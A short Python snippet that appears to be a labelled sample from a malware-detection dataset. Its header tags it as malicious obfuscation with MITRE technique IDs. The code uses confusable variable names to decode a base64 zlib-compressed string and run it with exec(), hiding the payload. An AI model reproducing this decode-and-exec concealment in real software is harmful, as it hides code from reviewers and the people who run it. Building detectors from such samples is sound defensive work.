# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=4,6-7
import base64 as O0O0O0
import zlib as OO00OO
OOO000 = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUdAtVsgoKSmw0tc3tDTSM9Az0jPVz1eoUSjOUNIEAAXYEQM="
def O0O0OO(lIlI):
    return OO00OO.decompress(O0O0O0.b64decode(lIlI))
exec(O0O0OO(OOO000))
